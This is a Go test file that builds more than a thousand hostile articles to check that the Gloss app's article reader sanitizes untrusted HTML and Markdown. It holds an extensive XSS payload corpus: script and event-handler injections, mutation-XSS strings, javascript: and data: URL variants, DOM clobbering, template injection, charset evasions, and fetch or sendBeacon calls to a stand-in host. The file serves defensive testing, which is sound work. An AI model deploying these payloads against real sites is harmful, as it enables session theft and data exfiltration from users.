package main

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"html"
	"mime/quotedprintable"
	"net/url"
	"path"
	"strconv"
	"strings"
	"testing"
	"unicode"
	"unicode/utf16"

	"gloss/models"
	"gloss/models/article"
)

// In what follows @do stands for what a trap would do if it went off, @at for an
// address elsewhere that nobody is to ask for, @n for the number of the trap and
// @v for a snare; @a, @t, @j and @y are the snare as it is written within an
// attribute, as text, in JSON and in YAML.

// springs are what goes off, written without what would end an attribute.
var springs = []string{
	"alert(1)", "window.owned=1", "fetch(`@at`)", "confirm`1`", "document.title=`owned`", "location=`@at`", "import(`@at`)",
	"top[`owned`]=1", "navigator.sendBeacon(`@at`)", "open(`@at`)", "prompt(1)", "document.body.textContent=1", "history.pushState(1,1,`/owned`)",
}

// snares are marks that browsers act on, or that readers of marks are fooled by.
var snares = []string{
	// Scripts.
	"<script>@do</script>", "<ScRiPt\n>@do</sCrIpT\t>", "<script/src=@at></script>", "<script type=module src=@at></script>", "<script\f>@do</script>", "</script><script>@do</script>",
	"<scr<script></script>ipt>@do</scr</script>ipt>", "<script>@do", "<<script>@do//<</script>", `<script type="application/ld+json"></script><script>@do</script>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["@at"]}]}</script>`, "<scr\x00ipt>@do</scr\x00ipt>", "<\u017fcript>@do</\u017fcript>", "＜script＞@do＜/script＞", "\u202e<script>@do</script>\u202c", "\ufeff<script>@do</script>",
	// Events.
	"<img src=x onerror=@do>", "<img/src/onerror=@do>", "<IMG SRC=x\noNeRrOr\n=\n\"@do\">", "<img src=x on\x00error=@do>", "<img srcset=x onerror=@do>", "<image src=x onerror=@do>", "<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=@do>",
	"<input autofocus onfocus=@do>", "<textarea autofocus onfocus=@do></textarea>", "<select autofocus onfocus=@do><option>x</select>", "<a href=# tabindex=0 autofocus onfocus=@do>x</a>", "<p contenteditable autofocus onfocus=@do>x</p>",
	"<details open ontoggle=@do><summary>more</summary>x</details>", "<body onload=@do>", "<body onpageshow=@do>", "<html onmouseover=@do>", "<video src=x onerror=@do></video>", "<video><source onerror=@do></video>", "<audio src=x onerror=@do></audio>",
	"<object data=x onerror=@do></object>", "<style onload=@do></style>", "<link rel=stylesheet href=/x onerror=@do>", "<marquee onstart=@do>x</marquee>", "<style>@keyframes k{}</style><p style=animation-name:k onanimationstart=@do>x</p>", "<p id=pop popover onbeforetoggle=@do>x</p><button popovertarget=pop autofocus>x</button>",
	"<p onpointerover=@do onclick=@do>x</p>", "<x contenteditable onblur=@do autofocus></x><input autofocus>", "<input oncontentvisibilityautostatechange=@do style=display:block;content-visibility:auto>", "<frameset onload=@do><frame src=@at></frameset>",
	"<dialog open><form method=dialog onsubmit=@do><button autofocus>x</button></form></dialog>", "<applet code=@at archive=@at></applet>", "<img usemap=#m src=x><map name=m><area shape=default href=javascript:@do></map>", "<keygen autofocus onfocus=@do>", "<div is=x slot=x part=x exportparts=x onslotchange=@do>x</div>",
	// Out of where a text stands.
	`"><img src=x onerror=@do>`, `'><img src=x onerror=@do>`, "`><img src=x onerror=@do>", `" autofocus onfocus=@do x="`, `' autofocus onfocus=@do x='`, `" style="background:url(@at)" x="`, "--><img src=x onerror=@do>", "--!><img src=x onerror=@do>", "]]><img src=x onerror=@do>",
	"</title><img src=x onerror=@do>", "</textarea><img src=x onerror=@do>", "</style><img src=x onerror=@do>", "</noscript><img src=x onerror=@do>", "</template><img src=x onerror=@do>", "</article></main></body></html><img src=x onerror=@do>", "</pre></code><img src=x onerror=@do>", "```\n<img src=x onerror=@do>",
	// Drawings and formulas.
	"<svg onload=@do>", "<svg/onload=@do//", "<svg><script>@do</script></svg>", "<svg><script href=@at /></svg>", "<svg><animate onbegin=@do attributeName=x dur=1s>", "<svg><set attributeName=href to=javascript:@do></svg>", "<svg><a xlink:href=javascript:@do><text y=9>x</text></a></svg>",
	"<svg><use href='data:image/svg+xml,<svg id=x onload=@do>#x'/></svg>", "<svg><image href=@at /></svg>", "<svg><foreignObject><img src=x onerror=@do></foreignObject></svg>", "<svg><style>@import'@at';</style></svg>", "<math><maction actiontype=statusline xlink:href=javascript:@do>x</maction></math>", "<math href=javascript:@do>x</math>",
	// What changes when it is written down and read again.
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=@do&gt;"></table></mtext></math>`, "<form><math><mtext></form><form><mglyph><style></math><img src onerror=@do></style></mglyph></form>", `<svg></p><style><a id="</style><img src=x onerror=@do>"></style></svg>`,
	`<noscript><p title="</noscript><img src=x onerror=@do>"></p></noscript>`, "<svg><title><![CDATA[</title><img src=x onerror=@do>]]></title></svg>", `<math><annotation-xml encoding="text/html"><style><img src=x onerror=@do></style></annotation-xml></math>`, "<p><svg><style><!--</style><img src=x onerror=@do>--></svg></p>",
	"<select><template><img src=x onerror=@do></template></select>", "<table><a><table></a><img src=x onerror=@do></table></a></table>", `<template><img src=x onerror=@do></template><template shadowrootmode=open><img src=x onerror=@do></template>`, "<textarea></textarea><img src=x onerror=@do>", "<xmp></xmp><img src=x onerror=@do>", "<plaintext><img src=x onerror=@do>",
	"<noembed><img alt='</noembed><img src=x onerror=@do>'></noembed>", "<!--><img src=x onerror=@do>-->", "<!-- --!><img src=x onerror=@do> -->", "<!--[if IE]><script>@do</script><![endif]-->", "<![CDATA[><img src=x onerror=@do>]]>", "<?php ><img src=x onerror=@do>?>", `<!DOCTYPE x [<!ENTITY y "<script>@do</script>">]>&y;`, "</ x><img src=x onerror=@do>", "<b <img src=x onerror=@do>>x</b>", `<a title='<a title="</a><img src=x onerror=@do>'>x</a>`,
	// Fetching and leaving, without a script.
	"<img src=@at>", "<picture><source srcset=@at><img src=@at></picture>", "<video poster=@at></video>", "<input type=image src=@at>", "<link rel=stylesheet href=@at>", "<link rel=preload as=image href=@at><link rel=prefetch href=@at><link rel=preconnect href=@at>", "<style>@import url(@at);</style>", "<style>*{background:url(@at)!important}</style>", "<style>@font-face{font-family:f;src:url(@at)}*{font-family:f!important}</style>",
	"<p style='position:fixed;inset:0;background:url(@at)'>x</p>", "<p style='width:expression(@do);-moz-binding:url(@at)'>x</p>", "<table background=@at><tr><td background=@at>x</table>", "<img src='@at?", "<meta http-equiv=refresh content='0;url=@at'>", "<meta http-equiv=refresh content='0;url=javascript:@do'>", `<meta http-equiv=Content-Security-Policy content="default-src *"><meta http-equiv=set-cookie content="owned=1">`,
	"<base href=@at/ target=_top>", "<iframe src=@at></iframe>", "<iframe src=javascript:parent.@do></iframe>", "<iframe srcdoc='<script>parent.@do</script>'></iframe>", "<object data=@at></object><embed src=@at>", "<object data=javascript:@do></object>", "<form action=@at><button autofocus>x</button></form>", "<form action=javascript:@do><button formaction=javascript:@do>x</button></form><script>document.forms[0].submit()</script>",
	// Names that a page's own scripts go by.
	"<form id=body name=body><input name=classList><input name=querySelector></form>", "<a id=htmx></a><a id=htmx name=config href=@at>x</a>", "<img name=getElementById><img name=currentScript src=@at>", "<p id=main class=flash role=status>x</p><p id=p1>x</p><p id=ref-1 name=refs>x</p>", "<iframe name=self srcdoc='<a id=location href=@at>x</a>'></iframe>",
	`<p hx-get="@at" hx-trigger="load" hx-on:load="@do" data-hx-get="@at" data-hx-trigger="load">x</p>`, "<form data-enhance method=post action=@at><input name=page value=1><button id=undo autofocus>x</button></form>", "<form data-zone-offer action=@at><b data-zone-name>x</b></form><p data-start=1 data-passages=@at data-zone-now=@at>x</p>",
	// What other programs would take for more.
	"{{constructor.constructor('@do')()}}", "${@do}", "<%= @do %>", "{% @do %}", "{@html '<img src=x onerror=@do>'}", "\u2028@do\u2029",
}

// addresses are where a link is not to lead.
var addresses = []string{
	"javascript:@do", "JaVaScRiPt:@do", " javascript:@do", "java\tscript:@do", "java\nscript:@do", "\x01javascript:@do", "java\x00script:@do", "javascript&colon;@do", "&#106;avascript:@do", "&#x6A&#x61vascript:@do", "jav&Tab;ascript:@do", "&NewLine;javascript:@do", "javascript:%0a@do", "javascript://x%0a@do", "javascript\u200b:@do", "\u2003javascript:@do",
	"feed:javascript:@do", "view-source:javascript:@do", "blob:javascript:@do", "data:text/html,<script>@do</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "DATA:image/svg+xml,<svg/onload=@do>", "vbscript:@do", "livescript:@do", "file:///etc/passwd", "intent://x#Intent;S.browser_fallback_url=@at;end", "/logout", "/guides/../logout?x=@do", "//127.0.0.1/@n", "\\\\127.0.0.1\\@n", "https:logout", "https://me:secret@127.0.0.1/@n", "@at\" onmouseover=@do x=\"", "#\" onclick=@do x=\"", "?drawn=1&do=@do", "mailto:a@b.test?body=@do", "x:@do",
}

// pagePlaces are where a snare stands in a page: in its body, or with the whole
// page around it.
var pagePlaces = []string{
	"<p>Before it @v and after.</p>", "@v", "<h2>@v</h2><p>Below.</p>", "<ul><li>One @v<li>Two</ul>", "<table><tr><th>@v<th>Hour<tr><td>@v<td>9</table>", "<pre><code>@v</code></pre>", "<blockquote>@v</blockquote>", "<dl><dt>@v<dd>@v</dl>", "<figure><img src=a.png alt=\"@a\"><figcaption>@v</figcaption></figure>",
	`<p title="@v" class="@v">Words.</p>`, "<p title='@v' id='@v'>Words.</p>", "<p lang=@v data-x=@v>Words.</p>", `<a href="https://site.example/@v">Words.</a>`, `<p>A note<sup id=r1><a href="#f1">1</a></sup>.</p><ol class=references><li id=f1>@v <a href="#r1">back</a></ol>`, "<div><!-- @v --></div>", "<svg><text>@v</text></svg>", "<math><mi>@v</mi></math>",
	"<noscript>@v</noscript>", "<template>@v</template>", "<style>@v</style>", "<title>@v</title>", "<textarea>@v</textarea>", "<iframe>@v</iframe>", "<select><option>@v</select>", "<object>@v</object>", "<xmp>@v</xmp>", "<form><button>@v</button><label>@v</label></form>", "<details><summary>@v</summary>@v</details>", "<b><i><a href=x>@v</b></i><p>@v</a>", "<table>@v<tr>@v<td>x</table>",
	"<p>@t</p>", "<p>Walk for 30 minutes every day with @t.</p>", "<p>Avoid coffee after 3 pm, says <code>@t</code>.</p>", "<h2>@t</h2><ul><li>Drink a glass of @t every day.</ul>", "<pre>@t</pre><img alt=\"@a\">",
	"<!doctype html><html lang=\"@a\"><head><title>@t</title><meta name=author content=\"@a\"><meta property=og:site_name content=\"@a\"><meta name=description content=\"@a\"></head><body><p>The lamp of number @n. Walk for 30 minutes every day.</p></body></html>",
	"<!doctype html><html><head><title>@v</title><meta name=author content='@v'><link rel=canonical href=\"@a\"><base href=\"@a\"></head><body><p>The lamp of number @n.</p></body></html>",
	`<!doctype html><html><head><script type="application/ld+json">{"@type":"Article","headline":@j,"author":{"name":@j},"publisher":@j,"description":@j}</script></head><body><p>The lamp of number @n.</p></body></html>`,
	"<!doctype html><html><body><p>The lamp of number @n.</p><p class=byline rel=author>By @t</p><h1>@t</h1><p>Walk for 30 minutes every day.</p></body></html>",
	"The lamp of number @n. @v<!doctype html><html><head>@v</head><p>Below it.</p></html>@v", "<html><body><p>The lamp of number @n.</p>@v",
}

// textPlaces are where a snare stands in Markdown.
var textPlaces = []string{
	"Before it @v and after.", "@v", "## @v\n\nBelow.", "@v\n---\n\nBelow.", "- One @v\n  - Two\n- [ ] @v", "> @v\n> more", "| @v | Hour |\n|---|---|\n| @v | 9 |", "`@v`", "``` @v\n@v\n```", "    @v", "[@v](https://site.example/)", "![@v](a.png)", "[x](https://site.example/ \"@v\")", "[x](<@v>)", "[x][1]\n\n[1]: <@v> \"@v\"", "A note[^1] and[^@v].\n\n[^1]: @v\n[^@v]: @v", "<@v>",
	"<div>\n@v\n</div>", "<div>\n\n@v\n\n</div>", "<!--\n@v\n-->", "<?x\n@v\n?>", "<![CDATA[\n@v\n]]>", "<script>\n@v\n</script>\n\n@v", "<p title=\"\n@v\n\">x</p>", "**@v** _@v_ ~~@v~~", "\\@v", "@t", "Walk for 30 minutes every day with `@v`.", "Avoid coffee after 3 pm, says @t.", "1. Drink a glass of @t every day.\n2. @v",
	"---\ntitle: @y\nauthor: @y\npublisher: @y\nsummary: @y\nurl: @y\nlanguage: @y\nreferences:\n  - text: @y\n---\nThe lamp of number @n[^1]. Walk for 30 minutes every day.\n\n[^1]: @v\n", "---\ntitle: @v\nauthor: @v\n---\nThe lamp of number @n.\n", "# @v\n\nThe lamp of number @n. Walk for 30 minutes every day.\n", "# @t\n\nThe lamp of number @n. Walk for 30 minutes every day.\n",
}

// linkPlaces are where an address stands, in a page and in Markdown.
var linkPlaces = []string{
	`<p><a href="@v">Words.</a> <a href='@v' href=x>more</a></p>`, "<p><a href=@v>Words.</a></p>", "<p><a href=\"@a\" xlink:href=\"@a\" target=_top ping=\"@a\">Walk for 30 minutes every day.</a></p>", `<map><area href="@v"></map><img src="@v" usemap=#x srcset="@v">`, `<iframe src="@v"></iframe><object data="@v"><embed src="@v"></object>`, `<form action="@v"><button formaction="@v">x</button></form>`, `<svg><a xlink:href="@v"><text>x</text></a><use href="@v"/></svg>`, `<ol class=references><li id=f1>A study. <a href="@v">There</a></ol>`,
	`<!doctype html><html><head><link rel=canonical href="@v"><meta property=og:url content="@v"><base href="@v"></head><body><p>The lamp of number @n. <a href=x>x</a></p></body></html>`,
	"[Words.](@v)", "[Words.](<@v> \"x\")", "![x](@v) [![x](@v)](@v)", "<@v>", "@v", "[Words.][1] and [1]\n\n[1]: @v\n", "[Words.][1]\n\n[1]: <@v>\n", "A note[^1].\n\n[^1]: A study. [There](@v)", "<a href=\"@v\">\nWords.\n</a>", "---\nurl: @y\nreferences:\n  - text: A study\n    url: @y\n    doi: @y\n---\nThe lamp of number @n[^1].\n\n[^1]: @v\n",
}

// trap is an article by somebody who means harm.
type trap struct {
	name        string // for a person: its number, its snare and its place
	file        string
	contentType string
	src         []byte
	page        *url.URL // where it was fetched from
}

// traps are more than a thousand articles, the same every time: every snare and
// every address in places of every kind. Whatever they ask for elsewhere is below
// an address and names the trap.
func traps(elsewhere string) []trap {
	var all []trap
	add := func(snare, place string) {
		n := len(all) + 1
		t := trap{name: fmt.Sprintf("trap %d, %q in %q", n, snare, place), file: "trap.md", src: []byte(fillIn(snare, place, elsewhere, n))}
		if strings.HasPrefix(place, "<html") || strings.Contains(place, "<!doctype") || strings.Contains(framed(place), "</body>") {
			t.file = "trap.html"
			if n%3 == 0 {
				t.contentType, t.page = "text/html", &url.URL{Scheme: "https", Host: "site.example", Path: "/page"}
			}
			t.encode(n)
		} else if n%11 == 0 {
			t.file = "trap.txt"
		}
		all = append(all, t)
	}
	for i, s := range snares {
		for k := range 4 {
			add(s, pagePlaces[(i*4+k)%len(pagePlaces)])
		}
		for k := range 2 {
			add(s, textPlaces[(i*2+k)%len(textPlaces)])
		}
	}
	for i, s := range addresses {
		for k := range 5 {
			add(s, linkPlaces[(i*5+k)%len(linkPlaces)])
		}
	}
	return all
}

// framed is a place with an article around it that has something to say.
func framed(place string) string {
	switch {
	case strings.Contains(place, "@n"):
		return place
	case strings.HasPrefix(place, "<") && strings.Contains(place, ">") && !strings.Contains(place, "\n") && place != "<@v>":
		return "<!doctype html><html lang=en><head><title>Evenings</title></head><body><article><h1>Evenings</h1><p>The lamp of number @n stands low.</p>" +
			place + "<p>Turn the screens off at 10 pm every day.</p></article></body></html>"
	}
	return "The lamp of number @n stands low.\n\n" + place + "\n\nTurn the screens off at 10 pm every day.\n"
}

func fillIn(snare, place, elsewhere string, n int) string {
	inJSON, err := json.Marshal(snare)
	if err != nil {
		panic(err)
	}
	inYAML := strings.NewReplacer(`\u003c`, "<", `\u003e`, ">", `\u0026`, "&").Replace(string(inJSON))
	text := strings.NewReplacer("@type", "@type", "@v", snare, "@t", html.EscapeString(snare), "@a", html.EscapeString(snare), "@j", string(inJSON), "@y", inYAML).Replace(framed(place))
	text = strings.ReplaceAll(text, "@do", springs[n%len(springs)])
	return strings.NewReplacer("@at", elsewhere+"/"+strconv.Itoa(n), "@n", strconv.Itoa(n)).Replace(text)
}

// encode writes some pages in ways that hide what they say.
func (t *trap) encode(n int) {
	text := string(t.src)
	switch n % 17 {
	case 1:
		t.src = wide("\ufeff"+text, 0, 8)
	case 3:
		t.src = wide(text, 8, 0)
	case 5:
		t.contentType, t.src = "text/html; charset=utf-7", []byte(strings.NewReplacer("<img", "+ADw-img", "<script", "+ADw-script", "\"", "+ACI-").Replace(text))
	case 7:
		t.contentType, t.src = "text/html; charset=iso-2022-jp", []byte(strings.Replace(text, "stands low.", "stands \x1b$B\"\x1b(J\\ low.", 1))
	case 9:
		t.file, t.contentType, t.src = "trap.mht", "", saved(text, n%2 == 0)
	case 11:
		t.src = []byte(strings.ReplaceAll(text, "stands", "st\x00an\u202ed\u2066s"))
	case 13:
		t.src = []byte(strings.Repeat("<div><b>", 300) + text)
	case 15:
		t.contentType, t.src = "text/html; charset=windows-1252", append([]byte(text), 0x80, 0xff, '<', 0x81)
	}
}

// wide is a text in UTF-16, of each two bytes the first and the second by how far
// they stand in their sign.
func wide(text string, first, second int) []byte {
	var b []byte
	for _, u := range utf16.Encode([]rune(text)) {
		b = append(b, byte(u>>first), byte(u>>second))
	}
	return b
}

// saved is a page as browsers save one with all that belongs to it.
func saved(text string, base bool) []byte {
	var b strings.Builder
	b.WriteString("From: <Saved by Blink>\r\nSnapshot-Content-Location: https://site.example/saved\r\nMIME-Version: 1.0\r\n" +
		"Content-Type: multipart/related; type=\"text/html\"; boundary=\"cut\"\r\n\r\n--cut\r\nContent-Type: text/html; charset=utf-8\r\n")
	if base {
		b.WriteString("Content-Transfer-Encoding: base64\r\n\r\n" + base64.StdEncoding.EncodeToString([]byte(text)))
	} else {
		b.WriteString("Content-Transfer-Encoding: quoted-printable\r\n\r\n")
		w := quotedprintable.NewWriter(&b)
		w.Write([]byte(text))
		w.Close()
	}
	b.WriteString("\r\n--cut--\r\n")
	return []byte(b.String())
}

// guide makes of a trap what Gloss keeps of it.
func (t trap) guide() (models.Guide, []models.Advice, error) {
	meta, doc, err := article.Read(t.file, t.contentType, t.src, t.page)
	if err != nil {
		return models.Guide{}, nil, err
	}
	return models.BroughtGuide(models.CameFile, path.Base(t.file), meta, doc)
}

// overt are texts without signs that are not seen, or that turn others around.
func overt(all ...string) bool {
	return !strings.ContainsFunc(strings.Join(all, ""), func(r rune) bool {
		return unicode.Is(unicode.Bidi_Control, r) || r == '\u200b' || unicode.IsControl(r) && r != '\n' && r != '\t'
	})
}

// The traps are many, no two alike, and Gloss takes them in: hardly any is
// harmless because it was refused.
func TestTrapsAreTaken(t *testing.T) {
	all := traps("http://127.0.0.1:1")
	seen, places, hostile, advised := map[string]string{}, map[string]int{}, 0, 0
	defer func() {
		t.Logf("%d traps, of %v; %d titles and authors and %d habits are hostile", len(seen), places, hostile, advised)
	}()
	for _, one := range all {
		g, advice, err := one.guide()
		if err != nil {
			t.Errorf("%s: %v\n%s", one.name, err, one.src)
			continue
		}
		if !overt(g.Title, g.Author, g.Publisher, g.Summary, g.Text, g.References) {
			t.Errorf("%s: signs that are not seen in %q by %q, %q, or in its text or references %q", one.name, g.Title, g.Author, g.Summary, g.References)
		}
		if was := seen[g.Hash]; was != "" {
			t.Errorf("%s says what %s does", one.name, was)
		}
		seen[g.Hash] = one.name
		places[path.Ext(one.file)]++
		if strings.ContainsAny(g.Title+g.Author, "<{") {
			hostile++
		}
		for _, a := range advice {
			if o, err := a.Read(); err != nil || strings.ContainsAny(o.Name+o.Cue, "<{") {
				advised++
			}
		}
	}
	if len(seen) < 1000 || places[".html"] < 400 || places[".md"] < 300 || places[".txt"] < 30 || places[".mht"] < 20 || hostile < 50 || advised < 30 {
		t.Error("that is too few")
	}
}
